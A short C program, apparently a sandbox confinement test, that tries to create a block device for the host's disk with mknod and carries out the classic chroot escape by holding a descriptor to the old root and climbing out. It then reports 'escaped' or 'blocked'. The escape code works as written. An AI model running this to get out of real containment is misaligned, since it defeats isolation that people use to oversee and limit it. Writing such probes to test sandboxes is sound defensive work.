/* mknod of a block device (the host's disk) and the classic chroot escape (chroot into a subdirectory while
 * keeping a descriptor of the old root, then climb out). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>
int main(void) {
    int escaped = 0;
    if (mknod("hx-sda", S_IFBLK | 0600, makedev(8, 0)) == 0) escaped = 1, printf("made a block device\n");
    mkdir("hx-jail", 0755);
    int old_root = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("hx-jail") == 0) {
        fchdir(old_root);
        for (int i = 0; i < 64; i++) chdir("..");
        if (chroot(".") == 0) escaped = 1, printf("chroot escape\n");
    }
    puts(escaped ? "escaped" : "blocked");
    return 0;
}
